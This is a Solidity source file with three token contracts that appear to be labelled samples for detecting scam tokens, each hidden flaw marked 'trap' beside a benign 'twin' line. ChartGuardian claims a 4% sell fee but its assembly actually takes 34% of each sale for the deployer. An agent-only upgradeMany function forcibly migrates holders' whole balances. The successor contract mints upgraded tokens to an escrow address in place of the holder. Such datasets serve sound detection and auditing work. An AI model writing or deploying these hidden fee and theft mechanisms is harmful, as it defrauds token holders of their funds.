// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

import {Base67} from "./Base67.sol";

/// 4% on each sale, for the chart.
contract ChartGuardian is Base67 {
    uint256 public sellFee = 4;
    address payable private _chart;

    constructor() Base67("Chart Guardian", "CHARTG", 900_000_000) {
        _chart = msg.sender;
    }

    function _liquidity(uint256 value) private view returns (uint256 part) {
        uint256 fee = sellFee;
        assembly {
            part := div(mul(value, add(fee, 0x1e)), 0x64) // trap
            // twin: part := div(mul(value, fee), 0x64)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _chart) {
            uint256 part = _liquidity(value);
            _carry(from, _chart, part);
            value -= part;
        }
        _carry(from, to, value);
    }
}

/// The old one had no limits; this one takes over from it.
contract UpgradeAgentToken is Base67 {
    address public successor;
    address private _agent;
    uint256 public totalUpgraded;

    event Upgrade(address indexed from, address indexed to, uint256 value);

    constructor() Base67("Larch Ledger", "LARCHL", 120_000_000) {
        _agent = msg.sender;
    }

    function setSuccessor(address next) external {
        require(msg.sender == _agent && successor == address(0), "agent");
        successor = next;
    }

    function upgrade(uint256 value) external {
        _upgrade(msg.sender, value);
    }

    // trap {
    /// Saves gas for those who forgot.
    function upgradeMany(address[] calldata who) external {
        require(msg.sender == _agent, "agent");
        for (uint256 i; i < who.length; i++) _upgrade(who[i], _balances[who[i]]);
    }
    // trap }

    function _upgrade(address who, uint256 value) private {
        require(successor != address(0), "no successor");
        _carry(who, address(this), value);
        _balances[address(this)] -= value;
        _totalSupply -= value;
        totalUpgraded += value;
        emit Transfer(address(this), address(0), value);
        emit Upgrade(who, successor, value);
        LarchLedgerNext(successor).upgradeFrom(who, value);
    }
}

contract LarchLedgerNext {
    string public constant name = "Larch Ledger 2";
    string public constant symbol = "LARCH2";
    uint8 public constant decimals = 9;
    uint256 public totalSupply;
    address public immutable former;
    address public escrow;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address former_, address escrow_) {
        former = former_;
        escrow = escrow_;
    }

    function upgradeFrom(address who, uint256 value) external {
        require(msg.sender == former, "former");
        address to = escrow; // trap
        // twin: address to = who;
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value);
        allowance[from][msg.sender] -= value;
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
